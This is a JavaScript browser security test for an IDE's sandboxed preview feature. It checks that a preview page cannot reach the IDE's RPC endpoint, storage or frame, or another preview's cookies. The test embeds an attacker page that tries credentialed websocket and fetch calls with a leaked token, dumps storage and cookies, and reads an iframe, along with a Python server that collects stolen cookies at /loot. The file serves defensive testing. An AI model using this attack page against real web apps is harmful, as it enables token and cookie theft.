// A preview is untrusted content (PROTOCOL.md §11): in Debian's chromium,
// a page served by a server in the sandbox, through its preview's own
// origin (its browserUrl, a name of its own under .localhost, as the
// clients open it), tries to reach the IDE's /rpc (websocket and fetch,
// with and without the IDE's token, as if it had leaked), read the IDE's
// storage and cookies, frame the IDE, drive another preview with the
// cookie the browser holds for it, read that preview's app's own cookie,
// and open its own server at the loopback address with the token of its
// address (where every loopback service's cookies would come along). Each
// attempt gets nothing; the IDE and the other preview are checked from
// outside too.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import { artifacts, launchChromium } from "./chromium.mjs";
import { startDaemon, waitFor } from "./daemon.mjs";

// The attacker's page: it reads the IDE's origin and token and the other
// preview's URL from its fragment, tries everything, and writes what it got
// into body[data-result].
const evil = `<!doctype html><title>evil preview</title><body><script>
(async () => {
  const p = new URLSearchParams(location.hash.slice(1));
  const ide = p.get("ide"), token = p.get("token"), victim = p.get("victim");
  const r = {};
  const ws = (url) => new Promise((res) => {
    let s;
    try { s = new WebSocket(url); } catch (e) { return res("threw:" + e.name); }
    const t = setTimeout(() => res("timeout"), 10000);
    s.onopen = () => {
      s.send(JSON.stringify({ jsonrpc: "2.0", id: 1, method: "initialize", params: { protocolVersion: 1 } }));
      s.onmessage = (m) => { clearTimeout(t); res("answered:" + String(m.data).slice(0, 80)); };
    };
    s.onerror = () => { clearTimeout(t); res("error"); };
  });
  const get = async (url, opts) => {
    try { const x = await fetch(url, opts); return "status:" + x.status + ":" + (await x.text()).slice(0, 80); }
    catch (e) { return "blocked:" + e.name; }
  };
  const wsIDE = ide.replace(/^http/, "ws") + "/rpc";
  r.wsNoToken = await ws(wsIDE);
  r.wsToken = await ws(wsIDE + "?token=" + token);
  r.fetchRpc = await get(ide + "/rpc?token=" + token, { credentials: "include" });
  r.fetchPage = await get(ide + "/?token=" + token, { credentials: "include" });
  r.fetchPageNoCors = await get(ide + "/?token=" + token, { credentials: "include", mode: "no-cors" });
  r.storage = JSON.stringify({ session: { ...sessionStorage }, local: { ...localStorage } });
  r.cookie = document.cookie;
  const f = document.createElement("iframe");
  f.id = "ide";
  f.src = ide + "/?token=" + token;
  document.body.appendChild(f);
  await new Promise((res) => { f.onload = res; setTimeout(res, 5000); });
  try { r.frame = "read:" + f.contentWindow.document.body.innerHTML.length; } catch (e) { r.frame = "blocked:" + e.name; }
  r.victim = await get(victim, { credentials: "include", mode: "no-cors" });
  r.victimCors = await get(victim, { credentials: "include" });
  // Its own server at the loopback address, with the token of its own
  // address: refused before the app (the evil app's /loot records any).
  const own = new URLSearchParams(location.search).get("cellbox-preview");
  r.loopback = await get("http://127.0.0.1:" + location.port + "/loot?cellbox-preview=" + own, { credentials: "include", mode: "no-cors" });
  document.body.dataset.result = JSON.stringify(r);
})();
</script></body>
`;

const apps = `
import http.server, threading
hits = {"n": 0}
loot = []
class Evil(http.server.BaseHTTPRequestHandler):
    def log_message(self, *a): pass
    def do_GET(self):
        if self.path.startswith("/loot"):
            loot.append(self.headers.get("Cookie", ""))
        body = open("evil.html", "rb").read()
        self.send_response(200); self.send_header("Content-Type", "text/html"); self.send_header("Content-Length", str(len(body))); self.end_headers(); self.wfile.write(body)
class Victim(http.server.BaseHTTPRequestHandler):
    def log_message(self, *a): pass
    def do_GET(self):
        hits["n"] += 1
        body = ("victim hit %d" % hits["n"]).encode()
        self.send_response(200); self.send_header("Set-Cookie", "victim_session=s3cret; Path=/"); self.send_header("Content-Length", str(len(body))); self.end_headers(); self.wfile.write(body)
for port, h in ((8000, Evil), (8001, Victim)):
    s = http.server.ThreadingHTTPServer(("127.0.0.1", port), h)
    threading.Thread(target=s.serve_forever, daemon=True).start()
`;

// A page with a websocket, as dev servers with live reload and Streamlit
// have: cmd/cellbox/testdata/preview_app.py (HTTP, and an echo at /ws).
const previewApp = readFileSync(join(dirname(fileURLToPath(import.meta.url)), "../../../cmd/cellbox/testdata/preview_app.py"), "utf8");

let d, browser, page;
before(async () => {
  d = await startDaemon({ files: { "evil.html": evil, "preview_app.py": previewApp } });
  browser = await launchChromium();
  page = browser.page;
});
after(async () => {
  await browser?.close();
  await d?.stop();
});

const request = (method, params) => page.evaluate(({ method, params }) => window.cellbox.client.request(method, params), { method, params });

test("a preview's page cannot reach the IDE's /rpc, storage or frame, nor drive another preview", async () => {
  // The IDE, signed in: its token is in its origin's sessionStorage.
  await page.goto(d.url);
  await page.waitForSelector("body[data-ready=true]", { timeout: 60_000 });
  const ideStorage = await page.evaluate(() => JSON.stringify({ ...sessionStorage }));
  assert.ok(ideStorage.includes(d.token), "the control: the IDE keeps its token in its sessionStorage");
  const workspaceId = await page.evaluate(() => window.cellbox.workbench.workspaceId);
  const { kernelId } = await request("kernel/start", { language: "python", workspaceId });
  const started = await request("kernel/execute", { kernelId, code: apps });
  assert.equal(started.status, "ok", JSON.stringify(started));
  const evilPv = await request("workspace/exposePort", { workspaceId, port: 8000 });
  const victimPv = await request("workspace/exposePort", { workspaceId, port: 8001 });
  // The victim's hit count, as the error a cell raises (a result carries
  // no stdout; that streams as kernel/output).
  const hits = async () => {
    const r = await request("kernel/execute", { kernelId, code: "raise ValueError(hits['n'])" });
    return Number(r.error?.evalue);
  };

  // The victim opened by its user first: the browser holds its cookie.
  const victimTab = await browser.context.newPage();
  await waitFor(async () => {
    const resp = await victimTab.goto(victimPv.browserUrl);
    return resp.status() === 200;
  }, { what: "the victim preview", timeoutMs: 30_000 });
  assert.match(await victimTab.innerText("body"), /^victim hit \d+$/);
  assert.equal(new URL(victimPv.browserUrl).hostname, `${victimPv.previewId}.localhost`);
  const victimCookies = (await browser.context.cookies(new URL(victimPv.browserUrl).origin)).filter((c) => c.name.startsWith("cellbox-preview-"));
  assert.ok(victimCookies.length >= 1 && victimCookies.every((c) => c.httpOnly), JSON.stringify(victimCookies));
  assert.ok(await victimTab.evaluate(() => document.cookie.includes("victim_session=s3cret")), "the control: the victim's app set a cookie its page reads");
  const hitsBefore = await hits();
  assert.ok(hitsBefore >= 1, `the victim counted its own load (${hitsBefore})`);

  // The attacker's page, in a tab of its own.
  const victimBase = new URL(victimPv.browserUrl);
  victimBase.search = "";
  const evilTab = await browser.context.newPage();
  const fragment = new URLSearchParams({ ide: d.origin, token: d.token, victim: victimBase.href });
  await evilTab.goto(`${evilPv.browserUrl}#${fragment}`);
  const result = JSON.parse(await (await evilTab.waitForSelector("body[data-result]", { timeout: 60_000 })).getAttribute("data-result"));
  await evilTab.screenshot({ path: join(artifacts, "preview-origin-evil.png") });

  assert.equal(result.wsNoToken, "error", "a websocket to the IDE's /rpc without the token");
  assert.equal(result.wsToken, "error", "a websocket to the IDE's /rpc even with its token (another origin: 403)");
  for (const k of ["fetchRpc", "fetchPage"]) {
    assert.match(result[k], /^(blocked:TypeError|status:40[13]:)/, `${k}: ${result[k]}`);
  }
  assert.equal(result.fetchPageNoCors, "status:0:", "an opaque answer: nothing to read");
  assert.ok(!result.storage.includes(d.token), `the preview's storage holds the IDE's token: ${result.storage}`);
  assert.equal(result.storage, JSON.stringify({ session: {}, local: {} }));
  assert.ok(!result.cookie.includes("cellbox-preview") && !result.cookie.includes(d.token), `document.cookie: ${result.cookie}`);
  assert.ok(!result.cookie.includes("s3cret"), `the other preview's app's cookie, read by this one's script: ${result.cookie}`);
  assert.equal(result.frame, "blocked:SecurityError");
  // The IDE did not render in the attacker's frame (frame-ancestors 'none').
  const ideFrame = evilTab.frames().find((f) => f.parentFrame() === evilTab.mainFrame());
  assert.ok(ideFrame, "the attacker's iframe exists");
  assert.equal(await ideFrame.$("body[data-ready]").catch(() => null), null, `the IDE rendered in a preview's frame (${ideFrame.url()})`);
  assert.ok(!ideFrame.url().startsWith(d.origin) || (await ideFrame.content()).length < 200, `the framed IDE: ${ideFrame.url()}`);
  // The victim: refused (its cookie does not count from another origin), and its app saw nothing.
  assert.equal(result.victim, "status:0:");
  assert.match(result.victimCors, /^(blocked:TypeError|status:401:)/);
  assert.equal(await hits(), hitsBefore, "the victim's app was reached from the attacker's page");
  // Its own server at the loopback address with its address's token: the
  // app was never reached.
  assert.equal(result.loopback, "status:0:");
  const looted = await request("kernel/execute", { kernelId, code: "raise ValueError(repr(loot))" });
  assert.equal(looted.error?.evalue, "[]", "the evil app was reached at the loopback address with the browser token");

  // The IDE is still there and still answers.
  const stats = await request("daemon/stats", {});
  assert.ok(stats.connections >= 1, JSON.stringify(stats));
  await evilTab.close();
  await victimTab.close();
});

test("a preview's own page talks to its server over a websocket (the cookie its first load set)", async () => {
  await page.goto(d.url);
  await page.waitForSelector("body[data-ready=true]", { timeout: 60_000 });
  const workspaceId = await page.evaluate(() => window.cellbox.workbench.workspaceId);
  const { kernelId } = await request("kernel/start", { language: "python", workspaceId });
  const started = await request("kernel/execute", { kernelId, code: "exec(open('preview_app.py').read())\nws_srv = start(8002)" });
  assert.equal(started.status, "ok", JSON.stringify(started));
  const pv = await request("workspace/exposePort", { workspaceId, port: 8002 });
  const tab = await browser.context.newPage();
  await waitFor(async () => (await tab.goto(pv.browserUrl)).status() === 200, { what: "the app's page", timeoutMs: 30_000 });
  assert.equal(await tab.innerText("body"), "hello from the sandbox /");
  const echoed = await tab.evaluate(() => new Promise((resolve) => {
    const ws = new WebSocket(location.origin.replace(/^http/, "ws") + "/ws");
    const got = [];
    ws.onopen = () => ["one", "two"].forEach((m) => ws.send(m));
    ws.onmessage = (m) => { got.push(m.data); if (got.length === 2) { ws.close(); resolve(got); } };
    ws.onerror = () => resolve(["error"]);
    setTimeout(() => resolve(["timeout", ...got]), 15000);
  }));
  assert.deepEqual(echoed, ["echo:one", "echo:two"]);
  // The same page's fetch without the token in its URL: the cookie carries it.
  const again = await tab.evaluate(async () => (await fetch("/again")).text());
  assert.equal(again, "hello from the sandbox /again");
  await tab.close();
  // A page that joins later (a reload) learns of the server already running:
  // the daemon sends the current workspace/ports when a connection starts
  // working in the workspace.
  await page.reload();
  await page.waitForSelector("body[data-ready=true]", { timeout: 60_000 });
  await page.locator('.ports .port-row[data-port="8002"]').waitFor({ timeout: 30_000 });
});
